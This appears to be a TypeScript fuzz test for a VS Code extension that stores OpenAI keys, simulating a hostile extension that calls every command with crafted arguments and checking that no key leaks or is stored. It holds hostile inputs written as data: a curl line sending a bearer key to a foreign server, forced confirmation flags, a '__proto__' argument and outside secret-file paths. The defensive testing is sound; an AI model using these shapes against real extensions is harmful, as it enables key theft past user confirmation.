// Another extension calls every openaiConnector.* command with hostile argument shapes, through
// vscode.commands.executeCommand in the same extension host (test/fixtures/attacker-extension), while
// a careful user refuses every dialog and picks the first item of every quick pick. Nothing may skip a
// confirmation, store a key, or hand back key material (return value, error, clipboard).
import * as assert from 'node:assert/strict';
import { join } from 'node:path';
import type { HostileRepo } from '../fixtures/hostile-repo';
import { makeKey } from '../unit/test-keys';
import { closeLeftovers, refuseDialogsUntil, type AttackSession, type ExecResult } from './harness/attack-session';
import type { SuiteKey } from './helpers';

export interface FuzzContext {
  readonly repo: HostileRepo;
  readonly foreignOrigin: string;
  readonly keys: readonly SuiteKey[];
  here(what: string): string;
}

/** Argument lists another extension might pass; each aims at a scripted path. */
function hostileShapes(ctx: FuzzContext, decoy: string): unknown[][] {
  const foreign = `${ctx.foreignOrigin}/v1`;
  const everything = {
    confirmed: true,
    confirm: false,
    storeKey: true,
    key: decoy,
    secret: decoy,
    name: 'fuzz',
    keyName: 'fuzz',
    baseUrl: foreign,
    scope: 'global',
    permission: { level: 'all' },
    removeLine: true,
    text: `curl ${foreign}/models -H "Authorization: Bearer ${decoy}"`,
    shellPath: process.execPath,
    shellArgs: [join(ctx.repo.folder, 'app.js'), 'fuzz-terminal'],
    path: ctx.repo.outsideSecretFile,
  };
  return [
    [],
    [{ confirmed: true }],
    [everything],
    [undefined, everything],
    [{ $uri: ctx.repo.outsideSecretFile }, { confirmed: true }],
    ['__proto__', { confirmed: true, secret: decoy }],
  ];
}

export async function fuzzCommands(s: AttackSession, ctx: FuzzContext): Promise<void> {
  const decoy = makeKey.project();
  const commands = await s.rpc<string[]>('commands');
  assert.ok(commands.includes('openaiConnector.copyKey'), `the connector's commands are not registered: ${commands.join(', ')}`);
  const secrets = ctx.keys.map((k) => k.secret);
  const leaks: string[] = [];
  let calls = 0;
  for (const command of commands) {
    for (const args of hostileShapes(ctx, decoy)) {
      await s.rpc('setClipboard', { text: 'clipboard-before-fuzz' });
      const { result } = await refuseDialogsUntil(s.workbench, s.rpc<ExecResult>('exec', { command, args, timeoutMs: 20_000 }), { pickFirst: true });
      await closeLeftovers(s.workbench);
      calls++;
      const shape = JSON.stringify(args).slice(0, 80);
      const returned = `${result.value ?? ''}\n${result.error ?? ''}`;
      const clipboard = await s.rpc<string>('clipboard');
      for (const secret of secrets) {
        if (returned.includes(secret)) leaks.push(`${command} ${shape}: returned a key`);
        if (clipboard.includes(secret)) leaks.push(`${command} ${shape}: put a key on the clipboard without a confirmation`);
      }
      if (returned.includes(decoy)) leaks.push(`${command} ${shape}: returned the decoy key`);
    }
  }
  assert.ok(calls >= commands.length * 5, `only ${calls} calls were made`);
  assert.deepEqual(leaks, [], ctx.here('another extension got key material'));
  // Nothing rotated a key to the decoy or stored it.
  const items = (await s.workbench.treeItems('OpenAI Keys')).join(' | ');
  assert.ok(!items.includes(`…${decoy.slice(-4)}`), ctx.here(`the decoy key was stored: ${items}`));
  for (const key of ctx.keys) assert.ok(items.includes(`…${key.secret.slice(-4)}`), ctx.here(`key '${key.name}' was removed or rotated: ${items}`));
  const probe = ctx.repo.probes()['fuzz-terminal'];
  assert.ok(!probe?.hasKey || !probe.baseUrl.startsWith(ctx.foreignOrigin), ctx.here('a scripted terminal sent the key to the foreign server'));
}
